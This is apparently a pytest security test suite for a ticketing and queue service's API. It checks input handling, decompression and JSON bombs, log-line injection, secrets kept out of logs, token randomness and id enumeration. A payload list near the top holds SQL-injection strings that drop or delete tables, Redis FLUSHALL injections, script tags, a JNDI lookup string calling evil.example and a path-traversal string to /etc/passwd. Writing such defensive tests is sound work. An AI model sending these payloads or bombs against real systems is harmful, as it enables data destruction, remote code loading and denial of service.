"""Data that would like to be something else: SQL, commands of Redis, patterns, lines of a log, bombs; and guesses."""

import gzip
import json
import math
import os
import re
import time
from collections import Counter

from lib import logs
from lib.api import some_name
from lib.client import assert_problem, new_key
from lib.gate import Visitor
from lib.paying import Purchase, result_of
from lib.payments import query_of
from lib.wait import until

TEXTS = ["'; DROP TABLE product; --", "' OR '1'='1", "\\'); DELETE FROM coupon; --", "$1 $$ $q$", "{0} %s %n %%", "\r\nFLUSHALL\r\n",
         "*1\r\n$8\r\nFLUSHALL\r\n", '"}\', redis.call("FLUSHALL")--', "{other}:state", "<script>alert(1)</script>", "</script><!--",
         "${jndi:ldap://evil.example/x}", "\u202eoot\u202c \u0085 \u2028", "\x1b[2J\x1b]0;x\x07", "../../etc/passwd", "🎟" * 20]


def test_text_comes_back_as_it_was_sent(api):
    """Each free text of the API, through SQL, Redis and JSON. Only what nobody could see may be refused."""
    queue = api.still_queue()
    sku, concert, event = (some_name(kind) for kind in ("sku", "concert", "e"))
    price, visible = {"amount": 1, "currency": "KRW"}, 0
    for text in TEXTS:
        for method, path, body, field in (
                ("PUT", f"/products/{sku}", {"name": text, "price": price, "stock": 1, "queue": queue}, "name"),
                ("PUT", f"/concerts/{concert}", {"title": text, "venue": text}, "title"),
                ("PUT", f"/coupon-events/{event}", {"name": text, "queue": queue}, "name"),
                ("PATCH", f"/queues/{queue}", {"message": text}, "message")):
            put = api.admin(method, path, body)
            if put.status == 400:
                assert_problem(put, 400, "INVALID_REQUEST")
                assert not text.isprintable(), (path, text)
                continue
            visible += 1
            assert put.status in (200, 201) and api.admin("GET", path)[field] == text
    assert visible >= 4 * 11
    assert api.admin("GET", f"/audit?target=queue/{queue}").status == 200


def test_names_and_keys_find_nothing_of_others(api):
    """What is looked up by a text of the caller's: idempotency keys, codes, cursors, tokens, captchas."""
    queue = api.queue()
    sku, event = api.product(queue), api.coupon_event(queue, 1)
    goods, newcomer = [{"sku": sku, "quantity": 1}], api.member()
    for text, member in zip(TEXTS, api.ready_members(queue, len(TEXTS))):
        header = re.sub(r"[^\x20-\x7e]", "?", text)
        assert_problem(member.order(queue, goods, token=header), 401, "ENTRY_TOKEN_INVALID")
        assert_problem(api.call("POST", f"/v1/queues/{queue}/entries", newcomer.headers(), {"code": text.encode()[:64].decode(errors="ignore")}),
                       403, "CODE_INVALID")
        assert api.call("GET", "/v1/orders?cursor=" + "".join(f"%{byte:02x}" for byte in text.encode()), member.headers()).status == 400
        assert_problem(member.order(queue, [{"sku": text, "quantity": 1}]), 400, "INVALID_REQUEST")
        captcha = {"captcha": text, "coupon": text}
        assert_problem(api.call("POST", f"/v1/coupon-events/{event}/coupons", member.headers(X_Entry_Token=member.token), captcha), 400)
        made = member.order(queue, goods, key=header)
        assert made.status == 201 and member.order(queue, goods, key=header)["id"] == made["id"]
    assert newcomer.position(queue)["status"] == "NOT_ENTERED"


def test_a_packed_body_is_not_unpacked(api):
    """64 KiB of gzip are 64 MiB of JSON elsewhere; here they are no JSON."""
    queue, member = api.still_queue(), api.member()
    bomb = gzip.compress(b'{"code":"' + b"0" * 40_000_000 + b'"}', 9)
    assert len(bomb) < 64 * 1024
    for coding in ("gzip", "deflate", "br", "gzip, gzip", "identity"):
        for method, path in (("POST", f"/v1/queues/{queue}/entries"), ("PUT", f"/v1/admin/queues/{queue}")):
            headers = {**(api.operator_headers() if "admin" in path else member.headers()), "Content-Encoding": coding}
            assert_problem(api.call(method, path, headers, bomb), 400, "INVALID_REQUEST")


def memory_of(pids):
    """The most that any of these processes has had at a time, in MiB."""
    peaks = []
    for pid in pids:
        with open(f"/proc/{pid}/status") as status:
            peaks.append(int(re.search(r"VmHWM:\s+(\d+)", status.read())[1]) // 1024)
    return max(peaks)


def cpu_of(pids):
    """Processor time of these processes, in seconds."""
    ticks = 0
    for pid in pids:
        with open(f"/proc/{pid}/stat") as stat:
            ticks += sum(map(int, stat.read().rsplit(")", 1)[1].split()[11:13]))
    return ticks / os.sysconf("SC_CLK_TCK")


BOMBS = {
    "arrays": b"[" * 8_000_000, "objects": b'{"a":' * 2_000_000, "names": b"{" + b",".join(b'"n%d":0' % i for i in range(400_000)) + b"}",
    "one name": b"{" + b",".join([b'"message":"x"'] * 400_000) + b"}", "empty objects": b'{"codes":[' + b"{},".join([b""] * 2_000_000) + b"{}]}",
    "number": b'{"ratePerSecond":' + b"9" * 8_000_000 + b"}", "escapes": b'{"message":"' + b"\\u0041" * 1_300_000 + b'"}',
    "exponent": b'{"ratePerSecond":1e' + b"9" * 1_000_000 + b"}", "space": b" " * 8_000_000,
}


def test_bodies_of_megabytes_cost_next_to_nothing(parts, api):
    """Only operators may send them, and the one operator worker must be there for the next one. Two bytes of JSON are a
    thousand in memory."""
    queue = api.still_queue()
    before = memory_of(parts.workers("operator"))
    for name, bomb in BOMBS.items():
        for headers, refusals in ((api.operator_headers(), (400, 413)), (api.member().headers(), (401,))):
            began = cpu_of(parts.workers("operator"))
            answer = api.call("PUT", f"/v1/admin/queues/{queue}", headers, bomb, timeout=30)
            assert answer.status in refusals, (name, answer.status, answer.body[:200])
            assert_problem(answer)
            assert cpu_of(parts.workers("operator")) - began < 3, name
    assert memory_of(parts.workers("operator")) - before < 400
    assert api.admin("GET", f"/queues/{queue}").status == 200


def test_lines_of_logs_stay_lines(parts, api):
    """Whatever is in an address, a header or a name: each line of a log is one JSON object of bounded length, in UTF-8, and
    nobody else's."""
    queue = api.still_queue()
    forged = '{"ts":"2020-01-01T00:00:00Z","level":"error","event":"forged"}'
    member = api.member("a..b:c-d")
    member.enter(queue)
    for path in (f"/v1/queues/{queue}/%0a{forged.replace(' ', '')}", f'/v1/queues/"{forged}"', "/v1/queues/%22%7d%0a", f"/v1/queues/{queue}/\xff\xfe",
                 "/v1/queues/\\x22", "/" + "a" * 8000, f"/v1/queues/{queue}/position?x={forged}", "/v1/\u2028".encode().decode("latin-1")):
        for header in ("traceparent", "User-Agent", "Referer", "X-Request-Id", "X-Forwarded-For"):
            api.raw(f"GET {path.replace(' ', '')} HTTP/1.1\r\nHost: x\r\n{header}: {forged}\x7f\xff{'y' * 3000}\r\nAuthorization: Bearer "
                    f"{member.jwt}\r\nConnection: close\r\n\r\n".encode("latin-1"))
    mark = some_name("mark")
    api.call("GET", f"/v1/queues/{mark}")
    access = parts.logs / "access.log"
    until(lambda: mark in access.read_text(errors="replace"), 5, "its line")
    for line in access.read_bytes().splitlines():
        entry = json.loads(line.decode("utf-8"))
        assert entry["evt"] == "http" and len(line) < 2000, line[:200]
    assert logs.events(parts.logs, "forged") == []


def test_nothing_that_lets_somebody_in_stands_in_a_log(all_paying):
    """At the most talkative level, on the whole way from the login to the money, with mistakes on the way."""
    parts, pools = all_paying, ("queue", "order", "payment", "operator")
    parts.settle()
    parts.reconfigure(*pools, log_level="debug")
    try:
        purchase = Purchase(parts)
        api, member, queue = parts.api, purchase.member, purchase.queue
        back = purchase.press()
        assert result_of(purchase.come_back(back)) == "paid"
        assert result_of(purchase.come_back(back)) == "paid"
        other = api.ready_member(queue)
        key = new_key()
        other.order(queue, [{"sku": "none", "quantity": 1}], key=key)
        other.order(queue, [{"sku": purchase.sku, "quantity": 10000}], key=key)
        other.order("nowhere", [{"sku": purchase.sku, "quantity": 1}])
        member.order(queue, [{"sku": purchase.sku, "quantity": 1}], token=other.token)
        event = api.coupon_event(queue, 1)
        code = other.coupon(event)["code"]
        visitor = Visitor(api.port, headers={})
        visitor.ask(f"/v1/queues/{api.queue(identity='visitor')}/entries", "POST")
        made = api.admin("POST", f"/queues/{queue}/codes", {"kind": "invite", "generate": 1})["codes"][0]
        api.call("POST", f"/v1/queues/{queue}/entries", api.member().headers(), {"code": made})
        api.call("GET", "/v1/admin/queues", {"Authorization": f"Bearer {api.admin_key}x"})
        secrets = [api.admin_key, api.viewer_key, parts.simulator.secret, member.jwt, other.jwt, member.ticket, other.ticket, member.token,
                   other.token, code, made, made.replace("-", ""), query_of(back)["state"], query_of(back)["pg_token"], *visitor.cookies.values(),
                   *(path.read_text().strip().partition(":")[2] or path.read_text().strip() for path in parts.secrets.iterdir())]
        secrets += [secret.rpartition(".")[2] for secret in secrets if secret.count(".") >= 2]  # signatures alone, too
        mark = some_name("mark")
        api.call("GET", f"/v1/queues/{mark}")
        until(lambda: mark in (parts.logs / "access.log").read_text(errors="replace"), 5, "its line")
        assert logs.events(parts.logs, "request"), "requests are logged"
        for path in parts.logs.iterdir():
            text = path.read_text(errors="replace")
            assert [secret[:12] for secret in secrets if secret in text] == [], path.name
            assert member.name not in text or path.name in ("access.log", "postgres.log"), path.name
    finally:
        parts.settings.pop("log_level")
        parts.reconfigure(*pools)


def test_tokens_cannot_be_guessed(api):
    """256 random bits each: no two alike, nothing that grows, and every character as likely as any other."""
    queue = api.queue()
    members = api.ready_members(queue, 300)
    tokens = [member.token for member in members]
    assert len(set(tokens)) == len(tokens) and {len(token) for token in tokens} == {43}
    # The last character holds four bits and two of padding.
    counts = Counter("".join(token[:-1] for token in tokens))
    expected = 300 * 42 / 64
    assert len(counts) == 64
    chi_squared = sum((counts[c] - expected) ** 2 / expected for c in counts)
    assert chi_squared < 63 + 6 * math.sqrt(2 * 63), "not what chance gives, once in a thousand million runs"
    for a, b in zip(tokens, tokens[1:]):
        assert sum(x == y for x, y in zip(a, b)) < 12


def test_a_wrong_token_is_refused_alike_however_near_it_is(api):
    """Neither the answer nor the number of questions tells how much of it was right."""
    queue = api.queue()
    sku, member, other = api.product(queue), api.ready_member(queue), api.ready_member(queue)
    near = [member.token[:-1] + ("A" if member.token[-1] != "A" else "E"), member.token[:20], member.token + "A", member.token.swapcase(),
            "A" * 43, other.token, member.token[:42], "." + member.token[1:]]
    answers = [member.order(queue, [{"sku": sku, "quantity": 1}], token=token) for token in near]
    seen = {(answer.status, answer.code, answer["detail"], tuple(sorted(answer.headers))) for answer in answers}
    assert len(seen) == 1 and seen.pop()[:2] == (401, "ENTRY_TOKEN_INVALID")
    assert member.order(queue, [{"sku": sku, "quantity": 1}]).status == 201
    assert other.order(queue, [{"sku": sku, "quantity": 1}]).status == 201


def test_ids_of_others_cannot_be_counted_up(api):
    """Orders and payments have names without an order in them; places in line are numbers, which name nothing."""
    queue = api.queue()
    sku = api.product(queue)
    ids = [api.ready_member(queue).order(queue, [{"sku": sku, "quantity": 1}])["id"] for _ in range(4)]
    assert all(re.fullmatch(r"o_[A-Za-z0-9_-]{22}", order) for order in ids)
    for a, b in zip(ids, ids[1:]):
        assert sum(x == y for x, y in zip(a[2:], b[2:])) < 8
    began = time.monotonic()
    guesses = [("GET", f"/v1/orders/{ids[0][:-1]}{c}", api.member().headers(), None) for c in "ABCDEFGH"]
    assert {answer.code for answer in api.together(guesses)} == {"NOT_FOUND"} and time.monotonic() - began < 30
